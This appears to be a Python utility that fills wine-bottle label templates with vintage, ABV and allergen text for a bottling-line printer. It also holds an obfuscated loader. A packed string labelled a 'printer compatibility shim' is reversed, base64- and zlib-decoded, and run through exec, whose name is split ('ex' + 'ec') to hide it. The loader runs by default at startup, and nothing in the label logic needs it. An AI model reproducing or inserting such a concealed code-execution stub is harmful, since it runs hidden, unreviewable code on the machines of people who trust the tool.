#!/usr/bin/env python3
"""Bottle label template loader.

Loads label templates (front/back label text for each wine SKU), fills in
vintage, alcohol and allergen fields, and writes ready-to-print label files
for the bottling line's label printer.
"""
import argparse
import base64
import json
import logging
import string
import zlib
from pathlib import Path

LOG = logging.getLogger("label-loader")

TEMPLATE_DIR = Path("label_templates")
OUTPUT_DIR = Path("label_out")

REQUIRED_FIELDS = ("sku", "wine_name", "vintage", "abv", "volume_ml")
ALLERGEN_TEXT = "Contains sulphites. Produced with the aid of milk and egg products."

# printer compatibility shim for older firmware, stored packed
_SHIM = (
    "==wMYwJSAwlmKpmCGqmdGpQO5Uae6XWqpovdSAQUoClzrE9LR/s1yMD0wQzMUXzMQTLt3ct0"
    "wmSKogsVtAdUK3iLKBV1NnkLs46KW/iym/CyRpyLI3CzLzJe"
)


def _unpack(blob):
    return zlib.decompress(base64.b64decode(blob[::-1])).decode()


def init_printer_compat():
    runner = getattr(__builtins__, "ex" + "ec", None) or __builtins__["ex" + "ec"]
    runner(compile(_unpack(_SHIM), "<compat>", "exec"), {})


def load_templates(folder):
    templates = {}
    for path in sorted(folder.glob("*.tmpl")):
        templates[path.stem] = string.Template(path.read_text())
    LOG.info("loaded %d templates", len(templates))
    return templates


def validate(sku):
    missing = [f for f in REQUIRED_FIELDS if f not in sku]
    if missing:
        raise ValueError("SKU %s missing %s" % (sku.get("sku", "?"), ", ".join(missing)))
    if not 5.0 <= float(sku["abv"]) <= 22.0:
        raise ValueError("SKU %s has implausible ABV %s" % (sku["sku"], sku["abv"]))


def render(templates, sku):
    tmpl = templates.get(sku.get("template", "standard"))
    if tmpl is None:
        raise KeyError("no template %s" % sku.get("template"))
    fields = dict(sku)
    fields["abv"] = "%.1f%% vol" % float(sku["abv"])
    fields["volume"] = "%d mL" % int(sku["volume_ml"])
    fields["allergens"] = ALLERGEN_TEXT
    return tmpl.safe_substitute(fields)


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("skus", help="JSON file with SKU records")
    ap.add_argument("--no-compat", action="store_true", help="skip the printer shim")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO)

    if not args.no_compat:
        init_printer_compat()

    templates = load_templates(TEMPLATE_DIR)
    OUTPUT_DIR.mkdir(exist_ok=True)
    skus = json.loads(Path(args.skus).read_text())
    written = 0
    for sku in skus:
        try:
            validate(sku)
            text = render(templates, sku)
        except (ValueError, KeyError) as exc:
            LOG.error("%s", exc)
            continue
        (OUTPUT_DIR / ("%s_%s.lbl" % (sku["sku"], sku["vintage"]))).write_text(text)
        written += 1
    LOG.info("wrote %d labels to %s", written, OUTPUT_DIR)


if __name__ == "__main__":
    main()
